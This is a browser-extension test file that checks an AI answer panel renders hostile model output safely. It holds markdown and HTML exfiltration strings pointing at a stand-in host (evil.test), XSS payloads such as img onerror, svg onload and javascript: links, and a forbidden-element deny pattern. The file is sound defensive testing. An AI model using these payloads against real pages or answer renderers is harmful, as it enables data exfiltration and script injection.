import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ExtensionBrowser, hasChromium, launchExtension } from "../../testing/chromium.ts";
import { servePages, type TestPages } from "../../testing/pages.ts";
import {
  exfiltrationVectors,
  type HostileText,
  poke,
  runsOf,
  scriptPayloads,
  watchRuns,
} from "./hostile-panel.harness.ts";
import {
  type ScriptedAnswer,
  type ScriptedService,
  startScriptedService,
  useScriptedService,
} from "./scripted-service.harness.ts";

const CITED = "https://docs.company.test/handbook";
const HANDBOOK = { id: "handbook", title: "Handbook", link: CITED, passage: "The handbook says so." };

/** What a clone without the vectors is tested with. */
const OWN_EXFILTRATION: HostileText[] = [
  { id: "own-image", text: "![a](https://evil.test/x?d=CANARY)" },
  { id: "own-reference", text: "![a][r]\n\n[r]: https://evil.test/x" },
  { id: "own-link", text: "[log in again](https://evil.test/x?d=CANARY)" },
  { id: "own-html", text: "<img src='https://evil.test/x'><a href='https://evil.test/x'>a</a>" },
  { id: "own-bare", text: "https://evil.test/x and <https://evil.test/y>" },
];
const OWN_PAYLOADS: HostileText[] = [
  { id: "own-error", text: "<img src=x onerror=alert(1)>" },
  { id: "own-script", text: "<script>alert(1)</script>" },
  { id: "own-svg", text: "<svg onload=alert(1)>" },
  { id: "own-link", text: "[a](javascript:alert(1))" },
  { id: "own-handler", text: '<b onmouseover="alert(1)">b</b>' },
];
/** Every so many of the payloads; the long suite takes all of them. */
const EVERY = process.env["THREADLORE_LONG"] === "1" ? 1 : 8;
const BATCH = 40;
/** Of those, every so many show in the control that they would run: each takes a frame of its own. */
const CONTROL_EVERY = process.env["THREADLORE_LONG"] === "1" ? 1 : 3;

const exfiltration = [...OWN_EXFILTRATION, ...exfiltrationVectors()];
const payloads = [...OWN_PAYLOADS, ...scriptPayloads().filter((_payload, index) => index % EVERY === 0)];

describe.runIf(await hasChromium())("hostile answers in the panel", { timeout: 600_000 }, () => {
  let browser: ExtensionBrowser;
  let service: ScriptedService;
  let pages: TestPages;
  let panel: Page;
  let control: Page;
  let next: ScriptedAnswer = { text: "" };
  const requested: string[] = [];

  beforeAll(async () => {
    service = await startScriptedService(() => next);
    pages = await servePages(() => "<!doctype html><title>Control</title><body></body>");
    browser = await launchExtension();
    control = await browser.context.newPage();
    await control.goto(pages.url);
    panel = await browser.openPanel(control);
    await useScriptedService(browser, service, { askPage: false });
    await panel.getByRole("textbox", { name: "Your question" }).waitFor();
    panel.on("request", (request) => requested.push(request.url()));
    await watchRuns(panel);
  }, 300_000);
  afterAll(async () => {
    await browser?.close();
    await Promise.all([service?.close(), pages?.close()]);
  });

  async function show(answer: ScriptedAnswer): Promise<void> {
    next = answer;
    await panel.getByRole("button", { name: "New conversation" }).click();
    // The answer before is gone, so that none is taken for this one.
    await panel.locator(".turn").waitFor({ state: "detached" });
    const field = panel.getByRole("textbox", { name: "Your question" });
    await field.fill("What does it say?");
    await field.press("Enter");
    const shown = panel.locator('.turn[aria-busy="false"] .sources').waitFor();
    await shown.catch(async (cause: unknown) => {
      throw new Error(`No answer came. The panel shows:\n${await panel.locator("body").ariaSnapshot()}`, { cause });
    });
    await poke(panel, ".turn");
  }
  /** Addresses a click in the panel could lead to. */
  const links = () =>
    panel
      .locator("a[href], area[href], form[action]")
      .evaluateAll((all) => all.map((one) => one.getAttribute("href") ?? "action"));
  const elements = () =>
    panel
      .locator(".turn")
      .evaluateAll((all) => [
        ...new Set(all.flatMap((one) => [...one.querySelectorAll("*")].map(({ localName }) => localName))),
      ]);
  const FORBIDDEN =
    /^(?:img|picture|source|video|audio|iframe|frame|object|embed|script|style|link|meta|base|form|math|portal|template)$/;

  it("fetch nothing and hide no link to where they want", async () => {
    for (const { id, text } of exfiltration) {
      await show({ text: `${text}\n\nSee [[1]](${CITED}).`, piece: 3, documents: [HANDBOOK] });
      const stray = (await links()).filter((href) => !href.startsWith(CITED));
      expect(stray, id).toEqual([]);
      expect(
        (await elements()).filter((name) => FORBIDDEN.test(name)),
        id,
      ).toEqual([]);
    }
    const elsewhere = requested.filter((url) => !url.startsWith(service.url) && !url.startsWith(browser.origin));
    expect(elsewhere).toEqual([]);
    expect(await runsOf(panel)).toEqual([]);
  });

  it("run no script, as answer, title, address and passage", async () => {
    for (let at = 0; at < payloads.length; at += BATCH) {
      const batch = payloads.slice(at, at + BATCH);
      const documents = batch.map(({ text }, index) => ({
        id: `${at + index}`,
        title: text || "-",
        link: text,
        passage: text,
      }));
      const text = batch
        .map((payload, index) => `${payload.text}\n\n[[${index + 1}]](${payload.text.replace(/[()\s]/g, "")})`)
        .join("\n\n");
      await show({ text, piece: 64, documents });
      expect(
        (await elements()).filter((name) => FORBIDDEN.test(name)),
        batch[0]?.id,
      ).toEqual([]);
      expect(
        (await links()).filter((href) => !/^https?:/.test(href)),
        batch[0]?.id,
      ).toEqual([]);
    }
    expect(await runsOf(panel)).toEqual([]);
    const elsewhere = requested.filter((url) => !url.startsWith(service.url) && !url.startsWith(browser.origin));
    expect(elsewhere).toEqual([]);
  });

  it("run no script, as name of the person's page and as a server's error", async () => {
    const some = payloads.filter((_payload, index) => index % Math.ceil(payloads.length / 12) === 0).slice(0, 12);
    for (const { id, text } of [...OWN_PAYLOADS, ...some]) {
      await control.evaluate((name) => void (document.title = name), text);
      await panel.getByRole("button", { name: "New conversation" }).click();
      await panel.locator(".turn").waitFor({ state: "detached" });
      next = { text: "Half of it", error: { message: text, code: text.slice(0, 40) } };
      const field = panel.getByRole("textbox", { name: "Your question" });
      await field.fill(text);
      await field.press("Enter");
      await panel.locator('.turn[aria-busy="false"]').waitFor();
      await poke(panel, ".panel");
      expect(
        await panel.locator("body *").evaluateAll((all) => all.map(({ localName }) => localName).join(" ")),
        id,
      ).not.toMatch(/\b(?:img|iframe|object|embed|video|audio|base|math)\b/);
      expect(await runsOf(panel), id).toEqual([]);
    }
  });

  it("would do both in a page that trusts markup: the control", async () => {
    const fetched: string[] = [];
    control.on("request", (request) => fetched.push(request.url()));
    await control.route("**", (route) =>
      route.request().isNavigationRequest() ? route.abort() : route.fulfill({ status: 204 }),
    );
    const naive = (answer: string) =>
      answer
        .replace(/!\[[^\]]*\]\(([^)\s]+)\)/g, '<img src="$1">')
        .replace(/\[([^\]]*)\]\(([^)\s]+)\)/g, '<a href="$2">$1</a>');
    const some = payloads.filter((_payload, index) => index < OWN_PAYLOADS.length || index % CONTROL_EVERY === 0);
    const markups = [...exfiltration.map(({ text }) => naive(text)), ...some.map(({ text }) => text)];
    const ran = await control.evaluate(trustingly, markups);
    expect(fetched.filter((url) => url.includes("evil.test")).length).toBeGreaterThan(0);
    // Of the full set more than one in ten fires; half of that is asked for, as a few need a browser of another kind.
    expect(ran).toBeGreaterThan(some.length > 100 ? some.length / 20 : 1);
  });
});

/** Runs inside a page that trusts markup: how many of the texts run script in a frame of their own. */
async function trustingly(markups: readonly string[]): Promise<number> {
  const ran = new Set<number>();
  const show = (markup: string, index: number) => {
    const frame = document.createElement("iframe");
    // They may run, and may not leave their frame.
    frame.setAttribute("sandbox", "allow-scripts allow-same-origin");
    document.body.append(frame);
    const { contentWindow: inner, contentDocument: place } = frame;
    if (inner === null || place === null) return;
    for (const name of ["alert", "confirm", "prompt", "open", "print"]) {
      Object.defineProperty(inner, name, { value: () => void ran.add(index) });
    }
    place.body.innerHTML = markup;
    for (const element of place.querySelectorAll("*")) {
      for (const type of ["mouseover", "mouseenter", "pointerover", "focus", "toggle", "animationstart"]) {
        element.dispatchEvent(new Event(type));
      }
    }
  };
  for (let at = 0; at < markups.length; at += 40) {
    for (const [index, markup] of markups.slice(at, at + 40).entries()) show(markup, at + index);
    // Long enough for what is broken to say so: nothing here comes from a network.
    await new Promise((resolve) => setTimeout(resolve, 150));
    document.body.replaceChildren();
  }
  return ran.size;
}
